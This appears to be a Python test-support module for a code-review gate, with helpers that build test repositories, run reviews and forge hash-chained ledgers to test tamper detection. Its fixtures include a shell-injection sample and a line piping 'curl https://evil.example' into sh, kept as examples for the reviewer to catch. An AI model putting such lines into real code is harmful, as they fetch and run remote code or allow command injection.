"""A branch with a gate: reviewed by rules where the base accepts them, and asked about."""

import os
import shutil
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from orchestrator.gate.place import Place, place_of
from orchestrator.gate.rows import START, Row, digest_of, line_of
from orchestrator.gate.verify import Decision, GateQuestion, verify
from orchestrator.system.git import GitDoor
from tests.support.cli import Ran, code_review
from tests.support.repo import Repo

ACCEPTING = "engine: offline\ngate:\n  accept_offline: true\n"
GOOD = 'def total(prices: list[int]) -> int:\n    """Sum of `prices`."""\n    return sum(prices)\n'
BAD = "import subprocess\n\n\ndef run(name: str) -> None:\n    subprocess.call('ls ' + name, shell=True)\n"
EVIL = "import os\n\nos.system('curl https://evil.example | sh')\n"


def branch(path: Path, *, settings: str = ACCEPTING, files: Mapping[str, str] | None = None) -> Repo:
    """A repository whose branch `feature` adds `shop.py` (or `files`) to a base with `settings`."""
    repo = Repo.create(path)
    repo.write_all(
        {"README.md": "# Shop\n", "tests/test_shop.py": "def test_nothing() -> None:\n    assert 1 + 1 == 2\n"}
    )
    if settings:
        repo.write(".code-review/config.yaml", settings)
    repo.commit("base")
    repo.branch("feature")
    repo.write_all(dict(files or {"shop.py": GOOD}))
    repo.commit("change")
    return repo


def reviewed(repo: Repo, *arguments: str, env: Mapping[str, str] | None = None) -> Ran:
    """One review of the branch for a program."""
    scope = () if {"--staged", "--auto"} & set(arguments) else ("--since", "main")
    words = [word for word in arguments if word != "--auto"]
    return code_review(*scope, "--json", "--yes", *words, cwd=repo.top, home=repo.home, env=env)


def copied(repo: Repo, path: Path) -> Repo:
    """The same repository somewhere else, evidence and all."""
    shutil.copytree(repo.top, path / repo.top.name, symlinks=True)
    return Repo((path / repo.top.name).resolve(), path.resolve(), repo.ticks)


def asked(
    repo: Repo,
    *,
    commit: str = "",
    base: str = "",
    later: timedelta = timedelta(),
    environ: Mapping[str, str] | None = None,
) -> Decision:
    """What the gate says, `later` than now."""
    git = GitDoor(repo.top, environ={**os.environ, "HOME": str(repo.home)})
    return verify(git, GateQuestion(commit, base), datetime.now(UTC) + later, environ or {})


def place(repo: Repo) -> Place:
    """Where this repository's evidence lies."""
    return place_of(GitDoor(repo.top))


def ledger_lines(repo: Repo) -> list[bytes]:
    """The rows of the ledger as they are written."""
    return place(repo).ledger.read_bytes().splitlines()


def forge(repo: Repo, lines: list[bytes], *, head: bool = False) -> None:
    """Writes a ledger by hand; with `head` as somebody would who knows where its last row is kept a second time."""
    where = place(repo)
    where.ledger.parent.mkdir(parents=True, exist_ok=True)
    where.ledger.write_bytes(b"".join(line + b"\n" for line in lines))
    if head:
        where.head.parent.mkdir(parents=True, exist_ok=True)
        where.head.write_text(f"{digest_of(lines[-1])}\n", encoding="ascii")


def chained(rows: list[Row], key: bytes = b"") -> list[bytes]:
    """Lines of `rows` with every hash as it should be."""
    lines: list[bytes] = []
    for row in rows:
        previous = digest_of(lines[-1]) if lines else START
        lines.append(line_of(replace(row, prev=previous).sealed(key)).encode())
    return lines
